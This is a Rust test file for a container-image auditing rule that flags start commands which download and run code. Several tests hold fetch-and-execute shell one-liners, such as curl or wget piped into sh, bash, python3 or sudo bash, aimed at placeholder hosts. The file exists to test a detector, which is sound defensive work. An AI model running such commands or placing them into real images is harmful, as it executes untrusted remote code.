//! IMG016 download-at-startup: ENTRYPOINT/CMD that downloads and runs code.

use plimsoll_report::Severity;
use serde_json::json;

use super::*;

fn shell_cmd(script: &str) -> plimsoll_testkit::ImageSpec {
    image_configured(json!({"Cmd": ["/bin/sh", "-c", script]}))
}

#[test]
fn curl_piped_to_sh_in_cmd() {
    let f = one(
        "IMG016",
        shell_cmd("curl -fsSL https://boot.example/start.sh | sh"),
    );
    assert_eq!(f.name, "download-at-startup");
    assert_eq!(f.practice, "P-C7");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(
        f.message,
        "the start command downloads and runs code: `/bin/sh -c curl -fsSL https://boot.example/start.sh | sh`"
    );
    assert!(f.help.is_some());
}

#[test]
fn entrypoint_and_cmd_are_read_together() {
    // The shell and -c in ENTRYPOINT, the script in CMD.
    let f = one(
        "IMG016",
        image_configured(json!({
            "Entrypoint": ["/bin/bash", "-c"],
            "Cmd": ["wget -qO- http://boot.example/run.py | python3"],
        })),
    );
    assert_eq!(f.location.field.as_deref(), Some("config.Entrypoint"));
    assert_eq!(
        f.message,
        "the start command downloads and runs code: `/bin/bash -c wget -qO- http://boot.example/run.py | python3`"
    );
}

#[test]
fn interpreters_substitutions_and_sudo() {
    for script in [
        "curl -s https://x/app.js | node",
        "curl -s https://x/run.pl | perl",
        "wget -O - https://x/s | bash -s -- --now",
        "sh -c \"$(curl -fsSL https://x/install.sh)\"",
        "bash <(curl -s https://x/boot)",
        "curl -sL https://x/boot | sudo bash",
        "set -e; curl -fsSL https://x/a.sh | /bin/sh && exec app",
    ] {
        let f = one("IMG016", shell_cmd(script));
        assert!(f.message.contains(script), "{script}: {}", f.message);
    }
}

#[test]
fn exec_form_piping_through_a_shell_in_the_entrypoint() {
    one(
        "IMG016",
        image_configured(json!({
            "Entrypoint": ["/usr/bin/env", "sh", "-c", "curl -fsSL https://x/boot.sh | sh"],
            "Cmd": null,
        })),
    );
}

#[test]
fn near_miss_curl_without_an_interpreter() {
    for script in [
        "curl -fsS http://localhost:8080/health",
        "curl -fsSL https://x/config.json -o /tmp/config.json && exec app",
        "curl -fsSL https://x/app.tgz | tar -xz -C /tmp && exec app",
        "cat /app/start.sh | sh",
    ] {
        silent("IMG016", shell_cmd(script));
    }
}

#[test]
fn near_miss_exec_form_curl() {
    silent(
        "IMG016",
        image_configured(json!({"Entrypoint": ["/usr/bin/curl"], "Cmd": ["-fsSL", "https://x/"]})),
    );
}

#[test]
fn near_miss_a_download_in_the_build_history_only() {
    // IMG013 reports the build step; the start command is clean.
    let mut spec = image_configured(json!({}));
    spec.extra_history = vec!["/bin/sh -c curl -fsSL https://x/install.sh | sh".into()];
    let found = Audit::new(spec).run();
    assert!(only("IMG016", found.clone()).is_empty(), "{found:#?}");
    assert_eq!(only("IMG013", found).len(), 1);
}

#[test]
fn near_miss_a_healthcheck_is_not_the_start_command() {
    silent(
        "IMG016",
        image_configured(json!({
            "Healthcheck": {"Test": ["CMD-SHELL", "curl -fsSL http://x/check.sh | sh"]},
        })),
    );
}
